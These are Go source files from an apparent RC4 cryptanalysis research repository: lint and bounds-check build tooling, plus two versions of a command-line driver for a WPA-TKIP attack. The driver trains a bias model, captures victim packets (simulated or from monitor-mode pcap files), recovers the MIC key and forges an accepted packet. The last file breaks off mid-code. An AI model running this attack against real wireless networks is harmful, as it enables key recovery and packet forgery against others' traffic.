	for _, arg := range os.Args[1:] {
		switch {
		case arg == "-V=full" || arg == "--V=full":
			// cmd/go hashes this line into its cache key (it requires the
			// exact "<name> version <ver>" shape), so the version embeds a
			// content hash of this binary: rebuilding rc4lint with changed
			// analyzers invalidates go vet's cached results.
			fmt.Printf("%s version %s\n", progname, selfID())
			return
		case arg == "-flags" || arg == "--flags":
			// cmd/go queries the tool's supported flags as JSON; the suite
			// has none — every analyzer always runs.
			fmt.Println("[]")
			return
		case strings.HasSuffix(arg, ".cfg"):
			cfgFile = arg
		case strings.HasPrefix(arg, "-"):
			// Ignore unknown flags (e.g. analyzer enable flags a future
			// cmd/go might pass); the suite always runs everything.
		default:
			cfgFile = arg
		}
	}
	if cfgFile == "" {
		fmt.Fprintf(os.Stderr, `%[1]s: the rc4break determinism lint suite (run it via go vet):

	go build -o bin/%[1]s ./scripts/%[1]s
	go vet -vettool=bin/%[1]s ./...

`, progname)
		for _, a := range analysis.Analyzers {
			fmt.Fprintf(os.Stderr, "  %s: %s\n", a.Name, a.Doc)
		}
		os.Exit(1)
	}

	diags, err := run(cfgFile)
	if err != nil {
		fmt.Fprintf(os.Stderr, "%s: %v\n", progname, err)
		os.Exit(1)
	}
	if len(diags) > 0 {
		for _, d := range diags {
			fmt.Fprintln(os.Stderr, d)
		}
		os.Exit(2)
	}
}

func run(cfgFile string) ([]string, error) {
	data, err := os.ReadFile(cfgFile)
	if err != nil {
		return nil, err
	}
	var cfg vetConfig
	if err := json.Unmarshal(data, &cfg); err != nil {
		return nil, fmt.Errorf("parsing %s: %v", cfgFile, err)
	}

	// The suite exports no facts, but cmd/go expects the fact file to exist
	// so dependent packages' runs can consume it.
	if cfg.VetxOutput != "" {
		if err := os.WriteFile(cfg.VetxOutput, nil, 0o666); err != nil {
			return nil, fmt.Errorf("writing facts: %v", err)
		}
	}
	if cfg.VetxOnly {
		return nil, nil
	}

	fset := token.NewFileSet()
	var files []*ast.File
	for _, name := range cfg.GoFiles {
		f, err := parser.ParseFile(fset, name, nil, parser.ParseComments|parser.SkipObjectResolution)
		if err != nil {
			if cfg.SucceedOnTypecheckFailure {
				return nil, nil
			}
			return nil, err
		}
		files = append(files, f)
	}

	compilerImporter := importer.ForCompiler(fset, cfg.Compiler, func(path string) (io.ReadCloser, error) {
		// path has already been resolved through ImportMap.
		file, ok := cfg.PackageFile[path]
		if !ok {
			return nil, fmt.Errorf("no package file for %q", path)
		}
		return os.Open(file)
	})
	imp := importerFunc(func(importPath string) (*types.Package, error) {
		if mapped, ok := cfg.ImportMap[importPath]; ok {
			importPath = mapped
		}
		if importPath == "unsafe" {
			return types.Unsafe, nil
		}
		return compilerImporter.Import(importPath)
	})

	var typeErr error
	tc := &types.Config{
		Importer:  imp,
		Sizes:     types.SizesFor(cfg.Compiler, buildArch()),
		GoVersion: cfg.GoVersion,
		Error: func(err error) {
			if typeErr == nil {
				typeErr = err
			}
		},
	}
	info := &types.Info{
		Types:      make(map[ast.Expr]types.TypeAndValue),
		Defs:       make(map[*ast.Ident]types.Object),
		Uses:       make(map[*ast.Ident]types.Object),
		Implicits:  make(map[ast.Node]types.Object),
		Selections: make(map[*ast.SelectorExpr]*types.Selection),
		Scopes:     make(map[ast.Node]*types.Scope),
	}
	pkg, err := tc.Check(cfg.ImportPath, fset, files, info)
	if err != nil || typeErr != nil {
		if cfg.SucceedOnTypecheckFailure {
			return nil, nil
		}
		if err == nil {
			err = typeErr
		}
		return nil, fmt.Errorf("typechecking %s: %v", cfg.ImportPath, err)
	}

	var diags []string
	seen := make(map[string]bool)
	for _, a := range analysis.Analyzers {
		pass := &analysis.Pass{
			Analyzer: a,
			Fset:     fset,
			Files:    files,
			Pkg:      pkg,
			PkgPath:  cfg.ImportPath,
			Info:     info,
			Report: func(d analysis.Diagnostic) {
				line := fmt.Sprintf("%s: %s: %s", fset.Position(d.Pos), d.Category, d.Message)
				if !seen[line] {
					seen[line] = true
					diags = append(diags, line)
				}
			},
		}
		if err := a.Run(pass); err != nil {
			return nil, fmt.Errorf("analyzer %s: %v", a.Name, err)
		}
	}
	sort.Strings(diags)
	return diags, nil
}

// selfID returns a short content hash of the running binary.
func selfID() string {
	exe, err := os.Executable()
	if err != nil {
		return runtime.Version()
	}
	data, err := os.ReadFile(exe)
	if err != nil {
		return runtime.Version()
	}
	sum := sha256.Sum256(data)
	return fmt.Sprintf("%x", sum[:12])
}

func buildArch() string {
	if arch := os.Getenv("GOARCH"); arch != "" {
		return arch
	}
	return runtime.GOARCH
}

type importerFunc func(string) (*types.Package, error)

func (f importerFunc) Import(path string) (*types.Package, error) { return f(path) }
