// bcecheck is the static sibling of scripts/benchdiff's perf gate: it proves
// at compile time that no bounds check has crept back into the RC4 kernel's
// hot loops, instead of waiting for a benchmark regression to notice one.
//
// It compiles rc4break/internal/rc4 directly with
//
//	go tool compile -d=ssa/check_bce
//
// (bypassing the build cache, which swallows compiler diagnostics on warm
// runs), collects every "Found IsInBounds" / "Found IsSliceInBounds" site the
// compiler reports, aggregates them per function, and diffs the counts
// against the committed allowlist (scripts/bcecheck/allowlist.txt). Any drift
// — a new bounds check in a hot loop, or a stale allowlist entry after an
// optimization removed one — fails the run with an exact description.
//
// Counts are keyed per (file, function, kind) rather than per line so the
// allowlist survives unrelated edits that shift line numbers.
//
// Usage:
//
//	go run ./scripts/bcecheck            # gate: diff against the allowlist
//	go run ./scripts/bcecheck -update    # rewrite the allowlist from reality
//
// GOOS/GOARCH are pinned to linux/amd64 — the platform the perf gate runs on
// — so the allowlist is reproducible regardless of the host.
package main

import (
	"bufio"
	"flag"
	"fmt"
	"go/ast"
	"go/parser"
	"go/token"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"sort"
	"strconv"
	"strings"
)

const (
	targetPkg  = "./internal/rc4"
	importPath = "rc4break/internal/rc4"
)

var (
	update    = flag.Bool("update", false, "rewrite the allowlist from the compiler's current output")
	allowFlag = flag.String("allowlist", "", "allowlist path (default scripts/bcecheck/allowlist.txt under the module root)")
)

// pinnedEnv pins the build platform so the allowlist means the same thing on
// every machine.
func pinnedEnv() []string {
	return append(os.Environ(), "GOOS=linux", "GOARCH=amd64", "CGO_ENABLED=0")
}

func main() {
	flag.Parse()
	if err := run(); err != nil {
		fmt.Fprintf(os.Stderr, "bcecheck: %v\n", err)
		os.Exit(1)
	}
}

func run() error {
	root, err := moduleRoot()
	if err != nil {
		return err
	}
	allowPath := *allowFlag
	if allowPath == "" {
		allowPath = filepath.Join(root, "scripts", "bcecheck", "allowlist.txt")
	}

	got, err := compileCounts(root)
	if err != nil {
		return err
	}

	if *update {
		if err := writeAllowlist(allowPath, got); err != nil {
			return err
		}
		fmt.Printf("bcecheck: wrote %d entries to %s\n", len(got), allowPath)
		return nil
	}

	want, err := readAllowlist(allowPath)
	if err != nil {
		return err
	}
	diffs := diff(want, got)
	if len(diffs) == 0 {
		fmt.Printf("bcecheck: %s clean — bounds checks match the allowlist (%d entries)\n", importPath, len(want))
		return nil
	}
	for _, d := range diffs {
		fmt.Fprintln(os.Stderr, "bcecheck: "+d)
	}
	return fmt.Errorf("%d bounds-check drift(s) in %s — if intentional, regenerate with `go run ./scripts/bcecheck -update` and justify in the PR", len(diffs), importPath)
}

func moduleRoot() (string, error) {
	out, err := exec.Command("go", "env", "GOMOD").Output()
	if err != nil {
		return "", fmt.Errorf("go env GOMOD: %v", err)
	}
	gomod := strings.TrimSpace(string(out))
	if gomod == "" || gomod == os.DevNull {
		return "", fmt.Errorf("not inside a module")
	}
	return filepath.Dir(gomod), nil
}

// site is one allowlist key: the enclosing function of a bounds check.
type site struct {
	file string // base name of the source file
	fn   string // enclosing function (receiver-qualified for methods)
	kind string // IsInBounds or IsSliceInBounds
}

func (s site) String() string { return fmt.Sprintf("%s %s %s", s.file, s.fn, s.kind) }

// compileCounts compiles the target package with -d=ssa/check_bce and
// aggregates the reported bounds checks per enclosing function.
func compileCounts(root string) (map[site]int, error) {
	// Dependency export data for -importcfg. `go list -export` compiles deps
	// as needed and prints their export files.
	listFmt := `{{if .Export}}packagefile {{.ImportPath}}={{.Export}}{{end}}`
	cmd := exec.Command("go", "list", "-deps", "-export", "-f", listFmt, targetPkg)
	cmd.Dir = root
	cmd.Env = pinnedEnv()
	cmd.Stderr = os.Stderr
	out, err := cmd.Output()
	if err != nil {
		return nil, fmt.Errorf("go list -deps -export: %v", err)
	}
	importcfg, err := os.CreateTemp("", "bcecheck-importcfg-*")
	if err != nil {
		return nil, err
	}
	defer os.Remove(importcfg.Name())
	if _, err := importcfg.Write(out); err != nil {
		return nil, err
	}
	importcfg.Close()

	// The package's source files and language version.
	cmd = exec.Command("go", "list", "-f",
		`{{.Dir}}{{"\n"}}{{.Module.GoVersion}}{{"\n"}}{{range .GoFiles}}{{.}}{{"\n"}}{{end}}`, targetPkg)
	cmd.Dir = root
	cmd.Env = pinnedEnv()
	cmd.Stderr = os.Stderr
	out, err = cmd.Output()
	if err != nil {
		return nil, fmt.Errorf("go list %s: %v", targetPkg, err)
	}
	lines := strings.Split(strings.TrimSpace(string(out)), "\n")
	if len(lines) < 3 {
		return nil, fmt.Errorf("go list %s: no Go files", targetPkg)
	}
	pkgDir, lang, files := lines[0], lines[1], lines[2:]

	obj, err := os.CreateTemp("", "bcecheck-*.a")
	if err != nil {
		return nil, err
	}
	defer os.Remove(obj.Name())
	obj.Close()

	args := []string{"tool", "compile",
		"-p", importPath,
		"-importcfg", importcfg.Name(),
		"-lang", "go" + lang,
		"-d", "ssa/check_bce",
		"-o", obj.Name(),
	}
	for _, f := range files {
		args = append(args, filepath.Join(pkgDir, f))
	}
	cmd = exec.Command("go", args...)
	cmd.Dir = root
	cmd.Env = pinnedEnv()
	diag, err := cmd.CombinedOutput()
	if err != nil {
		return nil, fmt.Errorf("go tool compile: %v\n%s", err, diag)
	}

	funcAt, err := functionIndex(pkgDir, files)
	if err != nil {
		return nil, err
	}

	counts := make(map[site]int)
	re := regexp.MustCompile(`^(.+):(\d+):(\d+): Found (IsInBounds|IsSliceInBounds)$`)
	sc := bufio.NewScanner(strings.NewReader(string(diag)))
	for sc.Scan() {
		m := re.FindStringSubmatch(strings.TrimSpace(sc.Text()))
		if m == nil {
			continue
		}
		file := filepath.Base(m[1])
		line, _ := strconv.Atoi(m[2])
		fn := funcAt(file, line)
		if fn == "" {
			fn = "<package scope>"
		}
		counts[site{file: file, fn: fn, kind: m[4]}]++
	}
	return counts, nil
}

// functionIndex parses the package's files and returns a lookup from
// (base filename, line) to the enclosing top-level function's name.
func functionIndex(dir string, files []string) (func(file string, line int) string, error) {
	type span struct {
		name     string
		from, to int
	}
	byFile := make(map[string][]span)
	fset := token.NewFileSet()
	for _, f := range files {
		af, err := parser.ParseFile(fset, filepath.Join(dir, f), nil, parser.SkipObjectResolution)
		if err != nil {
			return nil, err
		}
		for _, decl := range af.Decls {
			fd, ok := decl.(*ast.FuncDecl)
			if !ok {
				continue
			}
			name := fd.Name.Name
			if fd.Recv != nil && len(fd.Recv.List) == 1 {
				var b strings.Builder
				if err := formatRecv(&b, fd.Recv.List[0].Type); err == nil && b.Len() > 0 {
					name = b.String() + "." + name
				}
			}
			byFile[f] = append(byFile[f], span{
				name: name,
				from: fset.Position(fd.Pos()).Line,
				to:   fset.Position(fd.End()).Line,
			})
		}
	}
	return func(file string, line int) string {
		for _, s := range byFile[file] {
			if line >= s.from && line <= s.to {
				return s.name
			}
		}
		return ""
	}, nil
}

// formatRecv renders a receiver type expression ("*Cipher" -> "(*Cipher)",
// "Cipher" -> "Cipher") without importing go/printer.
func formatRecv(b *strings.Builder, t ast.Expr) error {
	switch t := t.(type) {
	case *ast.Ident:
		b.WriteString(t.Name)
		return nil
	case *ast.StarExpr:
		b.WriteString("(*")
		if id, ok := t.X.(*ast.Ident); ok {
			b.WriteString(id.Name)
			b.WriteString(")")
			return nil
		}
		return fmt.Errorf("unsupported receiver")
	case *ast.IndexExpr: // generic receiver T[P]
		return formatRecv(b, t.X)
	default:
		return fmt.Errorf("unsupported receiver")
	}
}

func readAllowlist(path string) (map[site]int, error) {
	data, err := os.ReadFile(path)
	if err != nil {
		return nil, fmt.Errorf("reading allowlist (generate with -update): %v", err)
	}
	want := make(map[site]int)
	for i, line := range strings.Split(string(data), "\n") {
		line = strings.TrimSpace(line)
		if line == "" || strings.HasPrefix(line, "#") {
			continue
		}
		f := strings.Fields(line)
		if len(f) != 4 {
			return nil, fmt.Errorf("%s:%d: want `<file> <function> <kind> <count>`, got %q", path, i+1, line)
		}
		n, err := strconv.Atoi(f[3])
		if err != nil {
			return nil, fmt.Errorf("%s:%d: bad count %q", path, i+1, f[3])
		}
		want[site{file: f[0], fn: f[1], kind: f[2]}] = n
	}
	return want, nil
}

func writeAllowlist(path string, counts map[site]int) error {
	keys := make([]site, 0, len(counts))
	for k := range counts {
		keys = append(keys, k)
	}
	sort.Slice(keys, func(i, j int) bool {
		if keys[i].file != keys[j].file {
			return keys[i].file < keys[j].file
		}
		if keys[i].fn != keys[j].fn {
			return keys[i].fn < keys[j].fn
		}
		return keys[i].kind < keys[j].kind
	})
	var b strings.Builder
	b.WriteString("# Bounds checks the compiler is allowed to emit in " + importPath + ",\n")
	b.WriteString("# per (file, function, kind), as reported by -d=ssa/check_bce on linux/amd64.\n")
	b.WriteString("# Regenerate with: go run ./scripts/bcecheck -update\n")
	b.WriteString("# A new entry here must be justified in the PR that adds it: a bounds\n")
	b.WriteString("# check inside the keystream hot loops is a perf regression (see the\n")
	b.WriteString("# deliberate prologue anchor loads in kernel.go that keep the loops clean).\n")
	for _, k := range keys {
		fmt.Fprintf(&b, "%s %s %s %d\n", k.file, k.fn, k.kind, counts[k])
	}
	return os.WriteFile(path, []byte(b.String()), 0o644)
}

// diff reports every mismatch between the allowlist and reality.
func diff(want, got map[site]int) []string {
	var out []string
	keys := make(map[site]bool)
	for k := range want {
		keys[k] = true
	}
	for k := range got {
		keys[k] = true
	}
	sorted := make([]site, 0, len(keys))
	for k := range keys {
		sorted = append(sorted, k)
	}
	sort.Slice(sorted, func(i, j int) bool { return sorted[i].String() < sorted[j].String() })
	for _, k := range sorted {
		w, g := want[k], got[k]
		switch {
		case w == g:
		case w == 0:
			out = append(out, fmt.Sprintf("NEW bounds check: %s ×%d (not in allowlist)", k, g))
		case g == 0:
			out = append(out, fmt.Sprintf("STALE allowlist entry: %s ×%d no longer emitted (compiler eliminated it — remove the entry)", k, w))
		default:
			out = append(out, fmt.Sprintf("COUNT drift: %s — allowlist %d, compiler now emits %d", k, w, g))
		}
	}
	return out
}
