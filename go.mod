module rc4break

go 1.22
