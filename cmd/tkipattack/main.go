// Command tkipattack runs the full §5 WPA-TKIP attack end to end in the
// in-process simulator: train the per-TSC model, make the victim transmit
// identical packets, capture and filter frames, compute per-position
// likelihoods, walk the ICV-pruned candidate list, and recover the Michael
// MIC key. It then demonstrates the impact by forging a packet the network
// accepts.
package main

import (
	"flag"
	"fmt"
	"math/rand"
	"os"
	"time"

	"rc4break/internal/netsim"
	"rc4break/internal/packet"
	"rc4break/internal/rc4"
	"rc4break/internal/tkip"
)

func main() {
	keysPerTSC := flag.Uint64("trainkeys", 1<<12, "training keys per TSC class (paper: 2^32)")
	copies := flag.Uint64("copies", 9<<20, "ciphertext copies to capture (paper: ~9.5 x 2^20 per hour)")
	maxDepth := flag.Int("maxdepth", 1<<20, "candidate list search bound (paper: nearly 2^30)")
	mode := flag.String("mode", "model", "capture mode: model (sampled from trained distributions) | exact (real frames; needs deep training)")
	seed := flag.Int64("seed", 1, "simulation seed")
	flag.Parse()

	msduLen := packet.HeaderSize + 7
	positions := tkip.TrailerPositions(msduLen)

	fmt.Printf("[1/4] training per-TSC model: %d keys x 256 classes x %d positions...\n",
		*keysPerTSC, positions[len(positions)-1])
	start := time.Now()
	model, err := tkip.Train(tkip.TrainConfig{
		Positions:  positions[len(positions)-1],
		KeysPerTSC: *keysPerTSC,
	})
	if err != nil {
		fatal(err)
	}
	fmt.Printf("      trained in %v\n", time.Since(start).Round(time.Millisecond))

	session := &tkip.Session{
		TK:     [16]byte{0x10, 0x21, 0x32, 0x43, 0x54, 0x65, 0x76, 0x87, 0x98, 0xa9, 0xba, 0xcb, 0xdc, 0xed, 0xfe, 0x0f},
		MICKey: [8]byte{0xc0, 0xff, 0xee, 0x15, 0x90, 0x0d, 0xf0, 0x0d},
		TA:     [6]byte{0x00, 0x0c, 0x41, 0x82, 0xb2, 0x55},
		DA:     [6]byte{0x00, 0x1e, 0x58, 0xaa, 0xbb, 0xcc},
		SA:     [6]byte{0x00, 0x22, 0xfb, 0x11, 0x22, 0x33},
	}
	victim := netsim.NewWiFiVictim(session, []byte("PAYLOAD"))
	attack, err := tkip.NewAttack(model, positions)
	if err != nil {
		fatal(err)
	}

	fmt.Printf("[2/4] capturing %d encryptions of the injected packet (%s mode)...\n", *copies, *mode)
	start = time.Now()
	switch *mode {
	case "exact":
		sniffer := netsim.NewSniffer(victim.FrameLen())
		for i := uint64(0); i < *copies; i++ {
			f := victim.Transmit()
			if sniffer.Filter(f) {
				attack.Observe(f)
			}
		}
		fmt.Printf("      sniffer captured %d frames, dropped %d\n", sniffer.Captured, sniffer.Dropped)
	case "model":
		trailer := trueTrailer(session, victim.MSDU)
		rng := rand.New(rand.NewSource(*seed))
		if err := attack.SimulateCaptures(rng, trailer, *copies); err != nil {
			fatal(err)
		}
	default:
		fatal(fmt.Errorf("unknown mode %q", *mode))
	}
	fmt.Printf("      captured in %v (live air time at %d pps: %.1f h)\n",
		time.Since(start).Round(time.Millisecond), netsim.TKIPInjectionPerSecond,
		float64(*copies)/netsim.TKIPInjectionPerSecond/3600)

	fmt.Printf("[3/4] decrypting trailer via ICV-pruned candidate list (depth <= %d)...\n", *maxDepth)
	start = time.Now()
	micKey, depth, err := attack.RecoverTrailer(session.DA, session.SA, victim.MSDU, *maxDepth)
	if err != nil {
		fmt.Printf("      attack failed: %v (try more copies or deeper search)\n", err)
		os.Exit(1)
	}
	fmt.Printf("      correct-ICV candidate at list position %d (%v)\n", depth, time.Since(start).Round(time.Millisecond))
	fmt.Printf("      recovered MIC key: %x\n", micKey)
	if micKey == session.MICKey {
		fmt.Println("      MIC key matches the real key")
	} else {
		fmt.Println("      WARNING: recovered key does not match (ICV collision, as §5.4 observed once)")
	}

	fmt.Println("[4/4] forging a packet with the recovered MIC key...")
	attacker := &tkip.Session{TK: session.TK, MICKey: micKey, TA: session.TA, DA: session.DA, SA: session.SA}
	forged := attacker.Encapsulate(victim.MSDU, 0xF00D)
	if _, err := session.Decapsulate(forged); err != nil {
		fmt.Printf("      forgery rejected: %v\n", err)
		os.Exit(1)
	}
	fmt.Println("      forged packet accepted by the network — attack complete")
}

// trueTrailer decrypts one encapsulation with the real key to obtain the
// plaintext MIC‖ICV the model-mode simulation feeds the sampler.
func trueTrailer(s *tkip.Session, msdu []byte) []byte {
	f := s.Encapsulate(msdu, 0)
	key := tkip.MixKey(s.TK, s.TA, 0)
	plain := make([]byte, len(f.Body))
	rc4.MustNew(key[:]).XORKeyStream(plain, f.Body)
	return plain[len(msdu):]
}

func fatal(err error) {
	fmt.Fprintln(os.Stderr, "tkipattack:", err)
	os.Exit(1)
}
