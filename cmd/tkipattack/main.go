// Command tkipattack runs the full §5 WPA-TKIP attack end to end in the
// in-process simulator: train the per-TSC model, make the victim transmit
// identical packets, capture and filter frames, compute per-position
// likelihoods, walk the ICV-pruned candidate list, and recover the Michael
// MIC key. It then demonstrates the impact by forging a packet the network
// accepts.
//
// Training and capture both persist: the model (the paper's 10-CPU-year
// artifact) is trained once and reloaded via -model, and captures are
// checkpointed shards that can be killed, resumed, and merged:
//
//	# train once, then capture a checkpointed shard
//	tkipattack -model tkip.model -copies 4718592 -seed 1 \
//	           -checkpoint shard1.snap -collect-only
//	# resume after a kill (same flags + -resume)
//	tkipattack -model tkip.model -copies 4718592 -seed 1 \
//	           -checkpoint shard1.snap -resume shard1.snap -collect-only
//	# second shard, then merge both and run the recovery phase
//	tkipattack -model tkip.model -copies 4718592 -seed 2 -checkpoint shard2.snap -collect-only
//	tkipattack -model tkip.model -copies 0 -merge shard1.snap,shard2.snap
//
// Online mode closes the loop: capture and decode interleave on a cadence,
// each round's candidates are verified by the Michael-MIC/ICV trailer
// oracle (with a test forgery confirming the recovered key against the
// network, §7.4), and the attack stops at the first confirmed trailer:
//
//	tkipattack -online                          # geometric cadence 2^20, 2^21, ...
//	tkipattack -online -decode-every 1048576    # decode every 2^20 frames
//
// Fleet-worker mode turns the driver into one capture node of a distributed
// run coordinated by cmd/fleetd (every worker must load the same trained
// model the coordinator uses):
//
//	tkipattack -fleet-worker coordinator:7100 -model tkip.model -worker-id m1
//
// Trace mode ingests monitor-mode captures instead of simulating the air —
// the §5.4 pipeline (radiotap/802.11 parsing, unique-length filtering, TSC
// de-duplication) over pcap/pcapng files — and -write-pcap produces such
// captures from the simulator (the round trip is pinned bitwise against
// in-process capture):
//
//	tkipattack -write-pcap tkip.pcap -copies 9437184
//	tkipattack -pcap tkip.pcap -copies 9437184 -model tkip.model
//	tkipattack -fleet-worker coordinator:7100 -model tkip.model -pcap 'shard-*.pcap'
package main

import (
	"bytes"
	"context"
	"errors"
	"flag"
	"fmt"
	"math/rand"
	"os"
	"os/signal"
	"time"

	"rc4break/internal/cliutil"
	"rc4break/internal/fleet"
	"rc4break/internal/netsim"
	"rc4break/internal/obs"
	"rc4break/internal/online"
	"rc4break/internal/packet"
	"rc4break/internal/rc4"
	"rc4break/internal/snapshot"
	"rc4break/internal/tkip"
	"rc4break/internal/trace"
)

func main() {
	keysPerTSC := flag.Uint64("trainkeys", 1<<12, "training keys per TSC class (paper: 2^32)")
	copies := flag.Uint64("copies", 9<<20, "total ciphertext copies this shard should hold, including resumed ones (paper: ~9.5 x 2^20 per hour); the online budget")
	maxDepth := flag.Int("maxdepth", 1<<20, "candidate list search bound (paper: nearly 2^30)")
	mode := flag.String("mode", "model", "capture mode: model (sampled from trained distributions) | exact (real frames; needs deep training)")
	seed := flag.Int64("seed", 1, "simulation seed; give independent shards different seeds")
	workers := flag.Int("workers", 0, "parallel workers for training, model-mode capture, and decoding (0 = GOMAXPROCS)")
	modelPath := flag.String("model", "", "model snapshot: loaded if the file exists, otherwise trained and saved there")
	checkpoint := flag.String("checkpoint", "", "capture snapshot written on completion; exact mode also writes it periodically and on Ctrl-C; online mode writes it after every decode round")
	checkpointEvery := flag.Uint64("checkpoint-every", 1<<20, "frames between periodic checkpoints in exact mode")
	resume := flag.String("resume", "", "capture snapshot to resume this shard from")
	merge := flag.String("merge", "", "comma-separated shard snapshots to merge into the capture pool after collection")
	collectOnly := flag.Bool("collect-only", false, "stop after capture (use with -checkpoint to produce a shard snapshot)")
	onlineMode := flag.Bool("online", false, "closed-loop mode: decode while capturing, stop at the first oracle-confirmed trailer")
	decodeEvery := flag.Uint64("decode-every", 0, "online: frames between decode attempts (0 = geometric cadence from -first-decode)")
	firstDecode := flag.Uint64("first-decode", 1<<20, "online: frames at the first decode attempt")
	maxPerRound := flag.Int("max-candidates-per-round", 0, "online: candidate walk depth per decode round (0 = -maxdepth)")
	fleetWorker := flag.String("fleet-worker", "", "join the cmd/fleetd coordinator at this address as a capture worker")
	workerID := flag.String("worker-id", "", "fleet worker name (default hostname-pid)")
	pcapIn := flag.String("pcap", "", "ingest frame evidence from monitor-mode capture files (comma-separated paths/globs, pcap or pcapng; streamed, never slurped); with -fleet-worker, serve exact-mode lanes from the files")
	writePcap := flag.String("write-pcap", "", "write the victim's frame stream (-copies frames) as a radiotap capture file and exit (.pcapng extension selects pcapng, else classic pcap)")
	jsonOut := flag.Bool("json", false, "append one machine-readable JSON result line to stdout")
	flag.Parse()

	msduLen := packet.HeaderSize + 7
	positions := tkip.TrailerPositions(msduLen)

	if *writePcap != "" {
		// Writing the stream needs no trained model: frames are a pure
		// function of the demo session and the TSC sequence.
		if err := writeTKIPPcap(*writePcap, *copies); err != nil {
			fatal(err)
		}
		return
	}
	var pcapPaths []string
	if *pcapIn != "" {
		var err error
		pcapPaths, err = cliutil.ExpandGlobs(*pcapIn)
		if err != nil {
			fatal(fmt.Errorf("-pcap: %w", err))
		}
	}

	model := loadOrTrainModel(*modelPath, positions[len(positions)-1], *keysPerTSC, *workers)

	session := tkip.DemoSession()
	victim := netsim.NewWiFiVictim(session, tkip.DemoPayload)
	attack, err := tkip.NewAttack(model, positions)
	if err != nil {
		fatal(err)
	}
	attack.Workers = *workers

	if *fleetWorker != "" {
		runFleetWorker(*fleetWorker, *workerID, model, positions, session, victim, *workers, pcapPaths)
		return
	}

	if *resume != "" {
		resumed, err := tkip.ReadAttackSnapshotFile(*resume, model)
		if err != nil {
			fatal(fmt.Errorf("resume %s: %w", *resume, err))
		}
		resumed.Workers = *workers
		attack = resumed
		fmt.Printf("      resumed %s: %d captured frames\n", *resume, attack.Frames)
	}

	if *onlineMode {
		if *collectOnly || *merge != "" {
			fatal(errors.New("-online composes with -checkpoint/-resume; -merge and -collect-only are offline-pool workflows"))
		}
		if pcapPaths != nil {
			fatal(errors.New("-online captures live; -pcap is an offline/fleet ingest path"))
		}
		depth := *maxPerRound
		if depth <= 0 {
			depth = *maxDepth
		}
		runOnline(attack, session, victim, *mode, *seed, *copies,
			online.Cadence{First: *firstDecode, Every: *decodeEvery},
			depth, *checkpoint, *checkpointEvery, *jsonOut)
		return
	}

	var remaining uint64
	if *copies > attack.Frames {
		remaining = *copies - attack.Frames
	}
	displayMode := *mode
	if *pcapIn != "" {
		displayMode = "trace"
	}
	fmt.Printf("[2/4] capturing %d encryptions of the injected packet (%s mode)...\n", remaining, displayMode)
	start := time.Now()
	streamID := snapshot.StreamInfo{Mode: *mode, Seed: *seed}
	if *mode == "exact" {
		// The exact stream is the fixed session's TSC sequence; -seed plays
		// no part in it, so every exact capture shares one stream identity —
		// two exact shards would observe identical frames and must not merge.
		streamID.Seed = 0
	}
	if pcapPaths != nil {
		// A trace-fed shard's stream identity is the file set: resuming it
		// skips the frames the snapshot already holds, and merging two
		// ingests of the same files is rejected as double-counting.
		streamID = snapshot.StreamInfo{Mode: "trace", Seed: cliutil.TraceStreamSeed(pcapPaths)}
	}
	switch {
	case remaining == 0:
		fmt.Println("      shard target already reached by resumed capture")
	case pcapPaths != nil:
		if attack.Frames > 0 && attack.Stream != streamID {
			fatal(fmt.Errorf("resume: snapshot stream is %s/seed %d, -pcap names a different capture set",
				attack.Stream.Mode, attack.Stream.Seed))
		}
		attack.Stream = streamID
		ingestStart := time.Now()
		stats, err := tkip.CollectTraceFiles(attack, victim.FrameLen(),
			pcapPaths, attack.Frames, remaining, false)
		if err != nil {
			fatal(err)
		}
		fmt.Printf("      trace ingest: %d packets, %d TKIP frames (%d matched, %d dup, %d frag, %d other-length, %d skipped)\n",
			stats.Packets, stats.Frames, stats.Matched, stats.Duplicates, stats.Fragmented, stats.OtherLength, stats.Skipped)
		mb := float64(stats.Bytes) / (1 << 20)
		fmt.Printf("      ingested %.1f MB of capture payload at %.1f MB/s\n",
			mb, mb/time.Since(ingestStart).Seconds())
	case *mode == "exact":
		// An exact-mode shard can only be continued on its own TSC
		// stream: the fast-forward in collectExact assumes the snapshot's
		// frames came from exactly this victim.
		if attack.Frames > 0 && attack.Stream != streamID {
			fatal(fmt.Errorf("resume: snapshot stream is %s/seed %d, flags request exact/seed %d",
				attack.Stream.Mode, attack.Stream.Seed, *seed))
		}
		attack.Stream = streamID
		collectExact(attack, victim, remaining, *checkpoint, *checkpointEvery)
	case *mode == "model":
		attack.Stream = streamID
		trailer := trueTrailer(session, victim.MSDU)
		// A topped-up shard must not replay the noise draws already folded
		// into the resumed snapshot (same seed, same sequence): derive a
		// distinct stream from the continuation point.
		rng := rand.New(rand.NewSource(cliutil.ContinuationSeed(*seed, attack.Frames)))
		if err := attack.SimulateCaptures(rng, trailer, remaining); err != nil {
			fatal(err)
		}
	default:
		fatal(fmt.Errorf("unknown mode %q", *mode))
	}
	collectTime := time.Since(start)
	fmt.Printf("      captured in %v (shard frames: %d; live air time at %d pps: %.1f h)\n",
		collectTime.Round(time.Millisecond), attack.Frames, netsim.TKIPInjectionPerSecond,
		float64(attack.Frames)/netsim.TKIPInjectionPerSecond/3600)

	if *checkpoint != "" {
		if err := attack.WriteSnapshotFile(*checkpoint); err != nil {
			fatal(err)
		}
		fmt.Printf("      snapshot -> %s\n", *checkpoint)
	}

	// Shards that captured the same stream (same mode and seed) hold the
	// same observations; merging them would double-count evidence.
	seenStreams := make(map[snapshot.StreamInfo]string)
	if attack.Frames > 0 && attack.Stream != (snapshot.StreamInfo{}) {
		seenStreams[attack.Stream] = "this shard"
	}
	for _, path := range cliutil.SplitList(*merge) {
		shard, err := tkip.ReadAttackSnapshotFile(path, model)
		if err != nil {
			fatal(fmt.Errorf("merge %s: %w", path, err))
		}
		if shard.Stream != (snapshot.StreamInfo{}) {
			if prev, dup := seenStreams[shard.Stream]; dup {
				fatal(fmt.Errorf("merge %s: same capture stream (%s/seed %d) as %s — its frames would be double-counted",
					path, shard.Stream.Mode, shard.Stream.Seed, prev))
			}
			seenStreams[shard.Stream] = path
		}
		if err := attack.Merge(shard); err != nil {
			fatal(fmt.Errorf("merge %s: %w", path, err))
		}
		fmt.Printf("      merged %s: +%d frames (pool now %d)\n", path, shard.Frames, attack.Frames)
	}

	if *collectOnly {
		fmt.Println("      collect-only: skipping recovery phase")
		return
	}

	fmt.Printf("[3/4] decrypting trailer via ICV-pruned candidate list (depth <= %d)...\n", *maxDepth)
	start = time.Now()
	micKey, depth, err := attack.RecoverTrailer(session.DA, session.SA, victim.MSDU, *maxDepth)
	recoverTime := time.Since(start)
	result := cliutil.RunResult{
